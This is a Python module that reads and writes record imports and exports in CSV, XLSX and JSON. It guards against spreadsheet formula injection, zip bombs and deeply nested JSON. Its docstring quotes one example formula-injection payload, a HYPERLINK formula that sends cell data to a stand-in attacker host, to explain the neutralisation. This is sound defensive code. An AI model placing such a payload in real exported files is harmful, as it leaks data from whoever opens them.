"""The file formats records travel in: what the lists export and the import reads.

Each format is declared once, in ``FORMATS``, with its reader (used by the import) and its
content type (used by the export).

**Formulas.** A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula, so a title such as ``=HYPERLINK("https://evil.example/?"&A2)``
would send the row's neighbours away when the file is opened. In CSV and XLSX such a cell
is written with a leading apostrophe, as OWASP advises (spreadsheets show it as text), and
the import takes the apostrophe off again, so a round trip gives back exactly what was
stored. JSON is not opened by spreadsheets and travels as it is.

**Hostile files.** A reader never holds more than the file's own size in memory and stops
as soon as a file passes a limit: a workbook is checked for the size it unpacks to before
any of it is parsed, then read row by row (openpyxl's read-only mode); CSV is read record
by record; JSON is parsed as a stream of events (ijson), so a list of millions of objects
or nesting a hundred thousand levels deep is refused at once, without building it.
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import ijson
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.reader.excel import ExcelReader
from openpyxl.styles.stylesheet import apply_stylesheet
from openpyxl.worksheet._reader import WorkSheetParser

FORMULA_START = frozenset("=+-@\t\r")
TEXT_MARK = "'"

MAX_COLUMNS = 100
# What a workbook may unpack to: far above any real file the import takes (whose XML is a
# few times its CSV), far below what a few compressed megabytes can expand to.
MAX_UNPACKED_BYTES = 200 * 1024 * 1024
MAX_ZIP_MEMBERS = 1_000


class UnreadableFile(Exception):
    """The file cannot be read as a table; the message says why, for the person."""


Records = Iterator[list]  # the header, then each row's cells; blank rows included


def too_many_rows(limit: int) -> UnreadableFile:
    return UnreadableFile(f"The file has more than {limit:,} rows; the limit is {limit:,}. Split it.")


def neutralise(value):
    """A spreadsheet cell's value that no spreadsheet reads as a formula.

    A value that already begins with the apostrophe before a formula character (or
    another apostrophe) gets one more, so that ``restore`` gives it back unchanged.
    """
    if isinstance(value, str) and value and (value[0] in FORMULA_START or restore(value) != value):
        return TEXT_MARK + value
    return value


def restore(value: str) -> str:
    """The value ``neutralise`` was given."""
    if len(value) > 1 and value[0] == TEXT_MARK and (value[1] in FORMULA_START or value[1] == TEXT_MARK):
        return value[1:]
    return value


# Readers ------------------------------------------------------------------------------


def _too_wide() -> UnreadableFile:
    return UnreadableFile(f"The file has more than {MAX_COLUMNS} columns; the lists export fewer than 30.")


def read_csv(content: bytes, max_rows: int) -> Records:
    try:
        text = codecs.decode(content, "utf-8-sig")
    except UnicodeDecodeError:
        raise UnreadableFile("The CSV file is not UTF-8 text. Save it as “CSV UTF-8”.") from None
    if "\x00" in text:
        raise UnreadableFile("This does not look like a CSV file.")
    try:
        for number, record in enumerate(csv.reader(io.StringIO(text, newline=""))):
            if len(record) > MAX_COLUMNS:
                raise _too_wide()
            if number > max_rows:
                raise too_many_rows(max_rows)
            yield record
    except csv.Error as error:
        raise UnreadableFile(f"The CSV file cannot be read: {error}.") from None


def read_xlsx(content: bytes, max_rows: int) -> Records:
    """The first worksheet, row by row.

    openpyxl's read-only worksheet first looks for the sheet's declared dimensions and,
    where a file declares none, parses the whole sheet to find them: millions of rows before
    the first is returned. So the sheet is read here with openpyxl's own row parser (what
    read-only mode uses underneath), which returns each row as it is parsed.
    """
    stream = io.BytesIO(content)
    unreadable = UnreadableFile("This is not an Excel workbook (.xlsx) that can be read.")
    try:
        with zipfile.ZipFile(stream) as archive:
            members = archive.infolist()
    except (zipfile.BadZipFile, OSError, ValueError):
        raise unreadable from None
    # zipfile reads every part at most to its declared size, so the declared sizes bound
    # what parsing the workbook can cost (the shared strings are read whole).
    unpacked = sum(member.file_size for member in members)
    if len(members) > MAX_ZIP_MEMBERS or unpacked > MAX_UNPACKED_BYTES:
        raise UnreadableFile(
            f"The workbook unpacks to {unpacked / 1024 / 1024:,.0f} MB, more than the "
            f"{MAX_UNPACKED_BYTES // 1024 // 1024} MB a workbook of importable size can hold."
        )
    errors = (zipfile.BadZipFile, KeyError, OSError, ValueError, TypeError, AttributeError, SyntaxError)
    try:
        reader = ExcelReader(stream, read_only=True, data_only=True)
    except errors:
        raise unreadable from None
    try:
        reader.read_manifest()
        reader.read_strings()
        reader.read_workbook()
        apply_stylesheet(reader.archive, reader.wb)  # which number formats are dates
        sheets = [rel.target for _sheet, rel in reader.parser.find_sheets() if "worksheet" in rel.Type]
        if not sheets or sheets[0] not in reader.valid_files:
            raise UnreadableFile("The first sheet of the workbook is not a table.")
        book = reader.wb
        with reader.archive.open(sheets[0]) as source:
            parser = WorkSheetParser(
                source, reader.shared_strings, True, book.epoch, book._date_formats, book._timedelta_formats
            )
            following = 1
            for index, cells in parser.parse():
                if index > max_rows + 1:
                    raise too_many_rows(max_rows)
                while following < index:  # rows the file leaves out are blank
                    following += 1
                    yield []
                record = [None] * min(max((cell["column"] for cell in cells), default=0), MAX_COLUMNS)
                for cell in cells:
                    if cell["column"] <= MAX_COLUMNS:
                        record[cell["column"] - 1] = cell["value"]
                    elif cell["value"] is not None:
                        raise _too_wide()
                following = index + 1
                yield record
    except errors:
        # Broken parts, the XML parser's errors (ParseError is a SyntaxError), defusedxml's refusals.
        raise unreadable from None
    finally:
        reader.archive.close()


def read_json(content: bytes, max_rows: int) -> Records:
    """A list of flat objects: the header is every key in order of first use, then one
    record per object. Parsed as events, so depth and size are checked as it goes."""
    shape = UnreadableFile("The JSON file must be a list of objects, one per record, as the lists export.")
    if content.startswith(codecs.BOM_UTF8):
        content = content[len(codecs.BOM_UTF8) :]
    objects: list[dict] = []
    headers: dict[str, None] = {}
    depth, key, item = 0, "", None
    try:
        for event, value in ijson.basic_parse(io.BytesIO(content), use_float=True):
            if event in ("start_map", "start_array"):
                depth += 1
                if event != ("start_array" if depth == 1 else "start_map") and depth <= 2:
                    raise shape
                if depth > 2:
                    raise UnreadableFile(f"The value of “{key}” must be text, a number or empty.")
                if depth == 2:
                    item = {}
            elif event in ("end_map", "end_array"):
                depth -= 1
                if depth == 1:
                    objects.append(item)
                    if len(objects) > max_rows:
                        raise too_many_rows(max_rows)
            elif event == "map_key":
                key = value
                headers.setdefault(key)
                if len(headers) > MAX_COLUMNS:
                    raise _too_wide()
            elif depth == 2:
                item[key] = value
            else:
                raise shape
    except ijson.JSONError:
        raise UnreadableFile("The file is not valid JSON.") from None
    except UnicodeDecodeError:
        raise UnreadableFile("The file is not valid JSON: it is not UTF-8 text.") from None
    names = list(headers)
    yield names
    for item in objects:
        yield [item.get(name) for name in names]


# Writers: the header, then each row's values (text, numbers, empty) --------------------

XLSX_MAX_ROWS = 1_048_575  # a sheet's rows, less the header
STREAM_ROWS = 200  # rows per chunk of a streamed answer


class _Echo:
    """A file-like object whose write returns the line, for streaming csv.writer output."""

    def write(self, value: str) -> str:
        return value


def write_csv(rows: Records) -> Iterator[str]:
    # Every field quoted: a spreadsheet that splits on semicolons (as French Excel does)
    # must not find a formula after one inside a field.
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    while chunk := list(itertools.islice(rows, STREAM_ROWS)):
        yield "".join([writer.writerow([neutralise(value) for value in row]) for row in chunk])


def write_json(rows: Records) -> Iterator[str]:
    """One list of objects, streamed."""
    header = next(rows)
    encode = json.JSONEncoder(ensure_ascii=False).encode
    yield "["
    first = True
    while chunk := list(itertools.islice(rows, STREAM_ROWS)):
        objects = ",".join(encode(dict(zip(header, row, strict=True))) for row in chunk)
        yield objects if first else "," + objects
        first = False
    yield "]"


def write_xlsx(rows: Records, file) -> None:
    """One sheet in openpyxl's write-only mode, which keeps no row in memory. Every text is
    a text cell: neutralised, none begins like a formula."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Export")
    for row in itertools.islice(rows, XLSX_MAX_ROWS + 1):
        # Control characters have no place in a workbook's XML.
        sheet.append(
            [
                ILLEGAL_CHARACTERS_RE.sub("", cell) if isinstance(cell, str) else cell
                for cell in map(neutralise, row)
            ]
        )
    book.save(file)


@dataclass(frozen=True)
class Format:
    name: str  # the extension, and the value of ?export=
    label: str
    content_type: str
    spreadsheet: bool  # opened by spreadsheets: cells neutralised against formulas
    first_row: int  # the number a person sees on the first row after the header
    read: Callable[[bytes, int], Records]
    write: Callable  # rows → chunks of text to stream, or (rows, file) for a file format
    max_rows: int | None = None  # rows an export of this format can hold

    @property
    def streams(self) -> bool:
        return self.name != "xlsx"


FORMATS: dict[str, Format] = {
    fmt.name: fmt
    for fmt in (
        Format("csv", "CSV", "text/csv; charset=utf-8", True, 2, read_csv, write_csv),
        Format(
            "xlsx",
            "XLSX",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            True,
            2,
            read_xlsx,
            write_xlsx,
            XLSX_MAX_ROWS,
        ),
        Format("json", "JSON", "application/json", False, 1, read_json, write_json),
    )
}
